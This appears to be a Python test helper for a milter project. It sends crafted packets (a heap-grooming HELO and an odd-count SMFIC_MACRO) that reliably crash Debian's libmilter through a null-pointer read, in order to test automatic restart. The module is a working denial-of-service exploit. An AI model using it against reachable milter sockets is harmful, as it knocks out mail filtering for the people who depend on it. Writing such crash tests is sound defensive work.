"""The packets that crash Debian's libmilter (SIGSEGV), for AutoRestart tests.

libmilter walks the macros of an SMFIC_MACRO packet as name/value pairs until
a NULL; with an odd number of strings it steps over the NULL and reads past
the end of its argv.  A 20-byte HELO first leaves "AAAAAAAA" in exactly the
heap slot it then reads, so the next ``getsymval()`` (our envfrom looks up
``{auth_authen}``) dereferences 0x4141... and the process dies, every time.
No MTA sends this; any peer that can reach the milter socket can.
"""

from __future__ import annotations

import struct

from smtpauth_milter.admin.milterproto.codec import encode_optneg, encode_packet
from smtpauth_milter.admin.milterproto.wire import (
    SMFIC_CONNECT,
    SMFIC_HELO,
    SMFIC_MACRO,
    SMFIC_MAIL,
    SMFIC_OPTNEG,
)
from tests.support.milterclient import MilterClient

OPTNEG = encode_optneg(6, 0x1FF, 0)
CONNECT = b"client.example\0" + b"4" + struct.pack("!H", 25) + b"192.0.2.1\0"
HELO = b"A" * 20 + b"\0"
ODD_MACROS = SMFIC_MAIL + b"x" * 40 + b"0\0"  # one string: a name without a value


def crash_milter(socket_spec: str, attempts: int = 20, timeout: float = 5.0) -> int:
    """Send the packets until the milter hangs up (the heap it reads is not always
    groomed on the first try); returns the number of attempts it took."""
    for attempt in range(1, attempts + 1):
        if send_crash_packets(socket_spec, timeout):
            return attempt
    raise AssertionError(f"libmilter did not crash in {attempts} attempts")


def send_crash_packets(socket_spec: str, timeout: float = 5.0) -> bool:
    """Send the crashing packets; True when the milter hung up instead of answering MAIL."""
    with MilterClient(socket_spec, timeout) as client:
        for command, data in ((SMFIC_OPTNEG, OPTNEG), (SMFIC_CONNECT, CONNECT), (SMFIC_HELO, HELO)):
            client.send_raw(command, data)
            client.read_packet()
        client.send_bytes(
            encode_packet(SMFIC_MACRO, ODD_MACROS) + encode_packet(SMFIC_MAIL, b"<a@example.com>\0")
        )
        try:
            client.read_packet()
        except (ConnectionError, OSError):
            return True
        return False
